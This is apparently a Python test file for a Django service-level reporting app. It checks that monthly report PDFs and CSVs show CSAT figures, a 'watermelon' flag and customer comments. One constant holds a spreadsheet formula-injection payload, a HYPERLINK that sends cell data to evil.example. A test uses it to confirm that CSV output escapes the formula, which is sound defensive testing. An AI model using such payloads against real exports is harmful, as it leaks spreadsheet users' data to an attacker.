"""The monthly report's PDF and CSV carry the experience of the month beside compliance,
as the report page does: the CSAT figure with its response count, the provisional marker,
the watermelon flag and the low answers' comments (customer text, escaped in the CSV like
every cell). The section is read when rendered, never frozen into the report's content."""

from __future__ import annotations

import csv
import io
import subprocess
import tempfile
from datetime import UTC, datetime

import pytest
from django.utils import timezone

from monitoring.evaluation.periods import evaluate_periods
from monitoring.evaluation.tickets import evaluate_pending_tickets
from monitoring.ingest.tickets import tickets_ingest
from monitoring.models import Survey, Ticket
from monitoring.services.experience import survey_answer
from reporting.models import Report
from reporting.services.content import content_hash
from reporting.services.rendering import report_csv_bytes
from reporting.services.reports import issue_due_reports, report_issue
from tests.support.experience import sign_with_experience_targets
from tests.test_report_review import november  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db

COMPLAINT = "The fix broke our invoices for a week."
ATTACK = '=HYPERLINK("https://evil.example/?leak="&A1, "Details")'
CSAT_CLOSES = datetime(2027, 1, 3, tzinfo=UTC)  # 33 days after November's end


def _watermelon_report(agreement, manager, customer, desk, comment: str) -> Report:
    """November: every SLA target met, one CSAT answer of 1 with ``comment``: CSAT 1.00 from
    1 response, below its 3.8 threshold: a watermelon. The report is issued."""
    agreement = sign_with_experience_targets(agreement, manager, customer, csat=("4.2", "3.8", 1))
    type(agreement).objects.filter(pk=agreement.pk).update(
        activated_at=datetime(2026, 11, 1, tzinfo=UTC)
    )
    tickets_ingest(
        desk,
        [
            {
                "agreement": agreement.reference,
                "external_id": "NOV-1",
                "priority": "P3",
                "opened_at": "2026-11-10T09:00:00Z",
                "first_response_at": "2026-11-10T09:05:00Z",
                "resolved_at": "2026-11-10T10:00:00Z",
            }
        ],
    )
    ticket = Ticket.objects.get(external_id="NOV-1")
    survey = Survey.objects.create(
        kind="csat", agreement=agreement, customer_id=agreement.customer_id, ticket=ticket
    )
    survey_answer(survey, 1, comment)
    evaluate_pending_tickets(datetime(2026, 11, 20, tzinfo=UTC))
    closed = datetime(2026, 12, 1, 0, 5, tzinfo=UTC)
    evaluate_periods(closed)
    issue_due_reports(closed)
    draft = Report.objects.get(agreement=agreement, month__month=11)
    return report_issue(draft, timezone.now(), manager)


def _pdf_text(content: bytes) -> str:
    with tempfile.NamedTemporaryFile(suffix=".pdf") as file:
        file.write(content)
        file.flush()
        return subprocess.run(
            ["pdftotext", "-layout", file.name, "-"], capture_output=True, text=True, check=True
        ).stdout


def _csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_report_pdf_shows_the_csat_figure_responses_and_the_watermelon(
    client, acme_agreement, alice_manager, carol_customer, acme_desk
):
    report = _watermelon_report(acme_agreement, alice_manager, carol_customer, acme_desk, COMPLAINT)
    client.force_login(carol_customer)
    response = client.get(f"/reports/{report.pk}/pdf/")
    assert response.status_code == 200
    text = " ".join(_pdf_text(response.content).split())
    assert "Experience beside compliance" in text
    # The flag in words (never colour alone), with the figure that raised it and the comment.
    assert "Watermelon: every SLA target met, customer experience below its threshold" in text
    assert "1.00" in text
    assert "1 response" in text
    assert "below threshold" in text
    assert COMPLAINT in text
    assert "CSAT 1/5, ticket NOV-1" in text
    # November's CSAT waits for late ratings until 3 January.
    assert ("provisional until 3 Jan 2027" in text) == (timezone.now() < CSAT_CLOSES)
    # The same section on the report page, from the same read.
    page = client.get(f"/reports/{report.pk}/").content.decode()
    assert "Watermelon: every SLA target met" in page and COMPLAINT in page


def test_the_report_csv_has_the_experience_rows(
    client, acme_agreement, alice_manager, carol_customer, acme_desk
):
    report = _watermelon_report(acme_agreement, alice_manager, carol_customer, acme_desk, COMPLAINT)
    client.force_login(carol_customer)
    rows = _csv_rows(client.get(f"/reports/{report.pk}/csv/").content)
    figure = next(r for r in rows if r["section"] == "experience")
    assert (figure["value"], figure["unit"], figure["status"]) == ("1.0", "score", "breached")
    assert (figure["target"], figure["threshold"]) == ("4.2", "3.8")
    assert figure["note"].startswith("1 response")
    assert ("provisional until 2027-01-03" in figure["note"]) == (timezone.now() < CSAT_CLOSES)
    flag = next(r for r in rows if r["section"] == "watermelon")
    assert flag["status"] == "yes"
    comment = next(r for r in rows if r["section"] == "experience_comment")
    assert (comment["note"], comment["value"], comment["item"]) == (
        COMPLAINT,
        "1",
        "CSAT 1/5, ticket NOV-1",
    )
    # The experience rows come after the report's own rows.
    sections = [r["section"] for r in rows]
    assert sections.index("credit_due") < sections.index("experience")


def test_a_comment_starting_a_formula_is_text_in_the_report_csv(
    client, acme_agreement, alice_manager, carol_customer, acme_desk
):
    report = _watermelon_report(acme_agreement, alice_manager, carol_customer, acme_desk, ATTACK)
    client.force_login(carol_customer)
    page = client.get(f"/reports/{report.pk}/csv/").content
    api = client.get(f"/api/reports/{report.pk}/csv/", HTTP_ACCEPT="text/csv").content
    for content in (page, api, report_csv_bytes(report)):
        comment = next(r for r in _csv_rows(content) if r["section"] == "experience_comment")
        assert comment["note"] == "'" + ATTACK


def test_the_experience_is_read_when_rendered_and_never_changes_the_issued_content(
    client, acme_agreement, alice_manager, carol_customer, acme_desk
):
    report = _watermelon_report(acme_agreement, alice_manager, carol_customer, acme_desk, COMPLAINT)
    frozen = (report.content_hash, content_hash(report.content))
    assert frozen[0] == frozen[1]
    assert "experience" not in report.content
    # A comment answered later is in the next download; the issued report is untouched.
    survey = Survey.objects.get(ticket__external_id="NOV-1")
    Survey.objects.filter(pk=survey.pk).update(comment="Still waiting for the credit note.")
    rows = _csv_rows(report_csv_bytes(report))
    assert next(r for r in rows if r["section"] == "experience_comment")["note"] == (
        "Still waiting for the credit note."
    )
    report.refresh_from_db()
    assert (report.content_hash, content_hash(report.content)) == frozen


def test_a_report_without_experience_targets_has_no_experience_section(
    client,
    november,  # noqa: F811
    alice_manager,
):
    client.force_login(alice_manager)
    rows = _csv_rows(client.get(f"/reports/{november.pk}/csv/").content)
    assert rows and not {r["section"] for r in rows} & {
        "experience",
        "watermelon",
        "experience_comment",
    }
    text = _pdf_text(client.get(f"/reports/{november.pk}/pdf/").content)
    assert "Service credit due" in text
    assert "Experience beside compliance" not in text
